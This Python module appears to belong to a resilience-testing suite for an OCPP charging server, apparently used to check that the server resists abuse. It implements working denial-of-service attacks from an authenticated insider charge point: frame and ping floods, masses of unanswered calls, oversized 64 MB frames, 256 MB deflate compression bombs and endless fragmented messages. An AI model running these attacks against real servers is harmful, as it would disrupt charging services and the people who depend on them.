"""Attacks from within a session: a charge point on record that is hostile, or was taken over."""

import asyncio
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager

from tools.attacks.outcome import CLOSED, OPEN, RESET, Attack, Outcome
from tools.attacks.pace import paced
from tools.attacks.target import INSIDER_ADDRESS, Effort, Target
from tools.attacks.wire import (
    CONTINUATION,
    PING,
    TEXT,
    Refused,
    Streams,
    drop,
    ending,
    flush,
    frame,
    session,
)

_PATIENCE_S = 8.0
_BOMB_BYTES = 256 * 2**20
_CHUNK = 64 * 1024
DEFLATE = "permessage-deflate; client_no_context_takeover; server_no_context_takeover"


@asynccontextmanager
async def _inside(target: Target, outcome: Outcome, **how: str) -> AsyncIterator[Streams | None]:
    """A session of the insider; None, with the end noted, when it is refused."""
    try:
        streams = await session(target, target.insider, INSIDER_ADDRESS, **how)
    except Refused as refused:
        outcome.note(refused.end)
        yield None
        return
    try:
        yield streams
    finally:
        drop(streams[1])


async def _pour(
    target: Target, effort: Effort, outcome: Outcome, content: Callable[[int], bytes], per_s: float, most: int
) -> None:
    """Send frames at a pace while reading what comes; then see how the session ends, or that it goes on."""
    async with _inside(target, outcome) as streams:
        if streams is None:
            return
        reader, writer = streams
        reading = asyncio.create_task(ending(reader, effort.seconds + 1.0))
        try:
            async for number in paced(per_s / 20, effort.seconds, most):
                writer.write(b"".join(content(20 * number + part) for part in range(20)))
                if reading.done() or not await flush(writer, effort.seconds):
                    break
            outcome.note(await reading)
        finally:
            reading.cancel()


async def frame_flood(target: Target, effort: Effort) -> Outcome:
    """Calls without pause and without waiting for answers."""
    rate = effort.of(5000)
    outcome = Outcome(f"1 session, {rate} Heartbeats/s")
    await _pour(target, effort, outcome, lambda number: frame(TEXT, b'[2,"h%d","Heartbeat",{}]' % number), rate, 10**6)
    return outcome


async def endless_ids(target: Target, effort: Effort) -> Outcome:
    """100,000 Calls with ids of their own, not one answer read."""
    most = effort.of(100_000)
    outcome = Outcome(f"1 session, {most} Calls, no answer read")
    async with _inside(target, outcome) as streams:
        if streams is None:
            return outcome
        reader, writer = streams
        reader._transport.pause_reading()  # type: ignore[attr-defined]  # noqa: SLF001 - streams have no word for it
        async for number in paced(effort.of(10_000) / 100, effort.seconds, most // 100):
            calls = (b'[2,"%036d","DataTransfer",{"vendorId":"v","data":"d"}]' % (100 * number + n) for n in range(100))
            writer.write(b"".join(frame(TEXT, call) for call in calls))
            if not await flush(writer, 0.5):  # it is not read any more: what was wanted
                break
        reader._transport.resume_reading()  # type: ignore[attr-defined]  # noqa: SLF001
        outcome.note(await ending(reader, 0.5))
    return outcome


async def ping_flood(target: Target, effort: Effort) -> Outcome:
    """Pings with a full payload, each of which asks for a pong."""
    rate = effort.of(5000)
    outcome = Outcome(f"1 session, {rate} pings/s")
    await _pour(target, effort, outcome, lambda _: frame(PING, b"p" * 125), rate, 10**6)
    return outcome


async def large_frames(target: Target, effort: Effort) -> Outcome:
    """Frames that announce 64 MB, and begin to deliver them."""
    count = effort.of(20)
    outcome = Outcome(f"{count} frames of 64 MB, one after the other")
    for _ in range(count):
        async with _inside(target, outcome) as streams:
            if streams is None:
                continue
            reader, writer = streams
            writer.write(frame(TEXT, b"[" + b" " * 2**20, size=64 * 2**20))
            await flush(writer, 1.0)
            outcome.note(await ending(reader, _PATIENCE_S))
    return outcome


def bomb(inflated: int) -> bytes:
    """A message of so many zeros as permessage-deflate sends it (RFC 7692, 7.2.1): about a thousandth of it."""
    press = zlib.compressobj(9, zlib.DEFLATED, -12)
    parts = [press.compress(b"0" * 2**20) for _ in range(inflated // 2**20)]
    return b"".join((*parts, press.flush(zlib.Z_SYNC_FLUSH)))[:-4]


async def compression_bombs(target: Target, effort: Effort) -> Outcome:
    """Small frames that want to become 256 MB."""
    count = effort.of(20)
    packed = await asyncio.to_thread(bomb, _BOMB_BYTES)
    outcome = Outcome(f"{count} frames of {len(packed) // 1024} kB that hold 256 MB")
    for _ in range(count):
        async with _inside(target, outcome, subprotocol="ocpp2.0.1", extensions=DEFLATE) as streams:
            if streams is None:
                continue
            reader, writer = streams
            writer.write(frame(TEXT, packed, rsv1=True))
            await flush(writer, 1.0)
            outcome.note(await ending(reader, _PATIENCE_S))
    return outcome


async def endless_fragments(target: Target, effort: Effort) -> Outcome:
    """Messages without an end: large fragments, then empty ones."""
    outcome = Outcome(f"fragments of 64 kB, then {effort.of(2000)} empty ones/s, never the last")
    async with _inside(target, outcome) as streams:
        if streams is not None:
            reader, writer = streams
            writer.write(frame(TEXT, b"[", fin=False))
            for _ in range(64):
                writer.write(frame(CONTINUATION, b" " * _CHUNK, fin=False))
                if not await flush(writer, 1.0):
                    break
            outcome.note(await ending(reader, _PATIENCE_S))
    first = True

    def empty(_: int) -> bytes:
        nonlocal first
        opcode, first = (TEXT if first else CONTINUATION), False
        return frame(opcode, b"", fin=False)

    await _pour(target, effort, outcome, empty, effort.of(2000), 10**6)
    return outcome


_TOO_BIG = frozenset({"close 1009"})
_THROTTLED = frozenset({OPEN, "close 1008"})
_GONE = frozenset({CLOSED, RESET})
_LATER = frozenset({"HTTP 429", "HTTP 503"})
"""An insider that comes back too often."""

ATTACKS = (
    Attack("frame flood", frame_flood, _THROTTLED, _GONE | _LATER),
    Attack("unanswered ids", endless_ids, _THROTTLED | _GONE, _LATER),
    Attack("ping flood", ping_flood, _THROTTLED, _GONE | _LATER),
    Attack("64 MB frames", large_frames, _TOO_BIG, _GONE | _LATER),
    Attack("compression bombs", compression_bombs, _TOO_BIG, _GONE | _LATER),
    Attack("endless fragments", endless_fragments, _TOO_BIG, _THROTTLED | _GONE | _LATER),
)
